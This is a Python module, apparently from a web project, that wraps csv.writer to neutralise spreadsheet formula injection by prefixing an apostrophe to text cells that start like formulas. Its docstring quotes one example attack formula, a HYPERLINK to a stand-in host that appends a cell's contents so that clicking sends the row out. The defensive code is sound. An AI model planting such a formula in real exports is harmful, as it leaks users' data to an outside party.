"""The one CSV writer every download uses: text a spreadsheet would run as a formula is written inert.

A cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel and LibreOffice
(`=HYPERLINK("https://evil.example/?"&A2, "Open")` sends the row away when clicked). As OWASP's "CSV Injection"
advice says, such text gets a leading apostrophe, which spreadsheets show as plain text. Only text is touched: a
number, however negative, stays a number (csv writes it as `-1500`), so a column of figures still sums.
"""

import csv

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value):
    """Return `value`, prefixed with an apostrophe when it is text that starts like a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeWriter:
    """csv.writer whose rows have their text cells neutralised."""

    def __init__(self, buffer, **options):
        self._writer = csv.writer(buffer, **options)

    def writerow(self, values):
        return self._writer.writerow([neutralise(v) for v in values])


def writer(buffer, **options):
    """A CSV writer over `buffer` (csv.writer's options) for any file the project lets people download."""
    return SafeWriter(buffer, **options)
